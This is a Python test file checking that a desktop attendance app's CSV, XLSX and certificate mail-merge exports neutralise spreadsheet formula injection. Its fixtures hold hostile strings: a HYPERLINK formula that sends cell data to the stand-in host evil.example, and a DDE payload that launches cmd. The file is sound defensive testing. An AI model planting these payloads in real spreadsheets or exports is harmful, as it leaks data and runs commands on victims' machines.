"""The desk's CSV and XLSX exports show typed text and never run it (issue 15, item 5): the
attendance export (desktop/core/reports.py) and the participants export (desktop/services),
on a real encrypted desk database, the files read back as a spreadsheet program would."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import text

from desktop.core import reports
from desktop.core.db import Database
from desktop.services import people
from sync.spreadsheet_safe import is_formula_like
from tests.desktop.certificate_support import check_in, make_event

LINK = '=HYPERLINK("http://evil.example/?d="&A1,"Klik di sini")'
PHONE = "+6281234567890"
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


def _hostile(db: Database) -> tuple[str, str]:
    """An event titled with a formula, one participant named with one, of a unit typed as a phone
    number, of an instansi typed as a DDE call, and a jabatan left as "-"."""
    sample = make_event(db, participants=3)
    check_in(db, sample, sample.participant_ids[:2])
    target = sample.participant_ids[0]
    with db.write() as session:
        session.connection().execute(
            text(
                "UPDATE participant SET full_name = :name, unit_kerja = :phone, instansi = :dde, "
                "jabatan = '-', phone = :phone WHERE id = :id"
            ),
            {"name": LINK, "phone": PHONE, "dde": DDE, "id": target},
        )
        session.connection().execute(
            text("UPDATE event SET title = :title WHERE id = :id"),
            {"title": "\t" + LINK, "id": sample.event_id},
        )
    return sample.event_id, target


def _csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle, delimiter=";") for cell in row]


def _xlsx_checked(path: Path) -> list[object]:
    """Every value of every sheet, after checking no cell is a formula and every formula-like text
    is a text cell with the quote prefix."""
    book = load_workbook(path)
    values: list[object] = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if is_formula_like(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
                values.append(cell.value)
    return values


def test_attendance_export_neutralises_formulas(db: Database, tmp_path: Path) -> None:
    event_id, _ = _hostile(db)
    with db.session() as session:
        reports.export_attendance(session=session, event_id=event_id, out=tmp_path / "h.xlsx")
        reports.export_attendance(session=session, event_id=event_id, out=tmp_path / "h.csv")
    values = _xlsx_checked(tmp_path / "h.xlsx")
    assert {LINK, PHONE, DDE, "-", "\t" + LINK} <= set(values)  # shown exactly as typed
    assert 1 in values  # the row number stays a number

    cells = _csv_cells(tmp_path / "h.csv")
    assert {"'" + LINK, "'" + PHONE, "'" + DDE, "-"} <= set(cells)
    assert not [cell for cell in cells if is_formula_like(cell)]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_participants_export_neutralises_formulas(
    db: Database, tmp_path: Path, suffix: str
) -> None:
    event_id, _ = _hostile(db)
    table = people.load_participant_table(db, event_id=event_id)
    columns = people.ExportColumns(
        headers=(
            "No",
            "Nama",
            "NIP/NIK",
            "Status",
            "Gol",
            "Jabatan",
            "Unit",
            "Instansi",
            "Email",
            "HP",
        ),
        day_header="Hari {day}",
        days_header="Jumlah hari hadir",
    )
    out = tmp_path / f"peserta{suffix}"
    people.export_rows(
        table,
        list(range(len(table.rows))),
        contacts=people.load_contacts(db, event_id=event_id),
        path=out,
        columns=columns,
        time_text=lambda moment: datetime.strftime(moment, "%H.%M"),
    )
    if suffix == ".xlsx":
        values = _xlsx_checked(out)
        assert {LINK, PHONE, DDE, "-"} <= set(values)
    else:
        cells = _csv_cells(out)
        assert {"'" + LINK, "'" + PHONE, "'" + DDE, "-"} <= set(cells)
        assert not [cell for cell in cells if is_formula_like(cell)]


def test_mail_merge_list_neutralises_formulas(db: Database, tmp_path: Path) -> None:
    """The daftar-kirim.csv beside the certificates carries the printed names."""
    from desktop.core import attendance, delivery
    from tests.desktop.helpers import NIP_SITI, desk, make_event, register

    event = make_event(db)
    person = register(db, event, LINK, NIP_SITI, email="siti@example.go.id")
    with db.write() as session:
        attendance.check_in(
            session=session,
            event_id=event,
            participant_id=person,
            day=1,
            desk=desk(db),
            operator="rina",
        )
    delivery.export_certificates(db=db, event_id=event, out=tmp_path / "s.zip", operator="rina")
    with zipfile.ZipFile(tmp_path / "s.zip") as archive:
        listing = archive.read("daftar-kirim.csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(listing)))
    assert rows[1][0] == "'" + LINK and rows[1][1] == "siti@example.go.id"
    assert not [cell for row in rows for cell in row if is_formula_like(cell)]
